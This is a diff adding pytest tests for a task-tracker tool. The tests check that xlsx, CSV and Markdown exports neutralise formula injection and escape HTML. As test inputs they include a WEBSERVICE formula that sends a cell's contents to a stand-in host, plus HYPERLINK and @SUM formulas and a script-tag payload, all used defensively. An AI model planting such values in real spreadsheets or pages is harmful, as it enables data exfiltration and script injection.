@@ -593,3 +593,80 @@ def test_15_locking_works_without_fcntl(tracker, monkeypatch, capsys):
         assert code == 0, err
     entries, problems = read_log((tracker / LOG).read_text(encoding="utf-8"), Q2, LOG)
     assert [e.value for e in entries] == [10, 11, 12] and problems == []
+
+
+# --------------------------------------------------------------------------- 10. injection
+
+FORMULA = '=WEBSERVICE("http://example.invalid/?"&C2)'
+
+
+def _hostile_plan(tracker):
+    """Item 32 led by a unit named like a formula, with a formula-like text."""
+    path = tracker / "tasks.yaml"
+    text = path.read_text(encoding="utf-8")
+    text = text.replace("    text: 新建5G基站336个。\n    leaders: [洪声耀]\n    lead: [区科经局]",
+                        "    text: '=1+2 新建5G基站336个。'\n    leaders: [洪声耀]\n    lead: ['@SUM(1)']", 1)
+    assert "'@SUM(1)'" in text
+    path.write_text(text, encoding="utf-8")
+
+
+def _cells(path: Path) -> list:
+    wb = openpyxl.load_workbook(path)
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+def test_10_no_cell_written_from_data_is_a_formula(tracker, capsys):
+    """Before: notes and names starting with = + - @ became live formulas in the xlsx bulletin and sheet."""
+    _hostile_plan(tracker)
+    code, out, err = run(capsys, "update", "32", "--done", "5", "--note", FORMULA)
+    assert code == 0, err
+    code, out, err = run(capsys, "update", "28", "--status", "推进中", "--note", "-2+3 完成")
+    assert code == 0, err
+    code, out, err = run(capsys, "report", "--quarter", "Q2", "-o", "通报.xlsx")
+    assert code == 0, err
+    cells = _cells(tracker / "通报.xlsx")
+    assert all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert any(isinstance(v, str) and FORMULA in v for v in values)
+    assert any(isinstance(v, str) and v.startswith("=1+2") for v in values)
+    code, out, err = run(capsys, "sheet", "--unit", "@SUM(1)", "--quarter", "Q2", "-o", "s.xlsx")
+    assert code == 0, err
+    cells = _cells(tracker / "s.xlsx")
+    assert all(c.data_type != "f" for c in cells)
+    assert any(isinstance(c.value, str) and c.value.startswith("=1+2") for c in cells)
+
+
+def test_10_csv_fields_that_would_be_formulas_are_neutralised(tracker, capsys):
+    """Before: units --format csv and overdue --format csv passed =HYPERLINK(…) unchanged."""
+    import csv
+    import io
+
+    _hostile_plan(tracker)
+    for args in (["units", "--quarter", "Q2"], ["overdue", "--quarter", "Q2"], ["list", "--quarter", "Q2"]):
+        code, out, err = run(capsys, *args, "--format", "csv")
+        assert code == 0, err
+        fields = [f for row in csv.reader(io.StringIO(out)) for f in row]
+        assert not [f for f in fields if f[:1] in ("=", "+", "@") or (f[:1] == "-" and not f[1:2].isdigit())], args
+        assert any(f.startswith("'@SUM(1)") or f.startswith("'=1+2") for f in fields), args
+
+
+def test_10_csv_field_rule():
+    from xatrack.views.safe_cells import csv_field
+
+    assert csv_field("=HYPERLINK(1)") == "'=HYPERLINK(1)"
+    assert csv_field("@SUM(1)") == "'@SUM(1)" and csv_field("+1+2") == "'+1+2" and csv_field("\t=1") == "'\t=1"
+    assert csv_field("-3.5") == "-3.5" and csv_field("+7%") == "+7%" and csv_field(-3) == -3
+    assert csv_field("区科经局") == "区科经局"
+
+
+def test_10_markdown_escapes_html(tracker, capsys):
+    """Before: report --format md passed <script> through raw."""
+    code, out, err = run(capsys, "update", "28", "--status", "受阻", "--note", "<script>alert(1)</script> & 其他")
+    assert code == 0, err
+    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md")
+    assert code == 0, err
+    assert "<script>" not in out
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; 其他" in out
+    code, out, err = run(capsys, "report", "--quarter", "Q2", "--format", "md", "--search", "<b>")
+    assert code == 0, err
+    assert "<b>" not in out and "&lt;b&gt;" in out
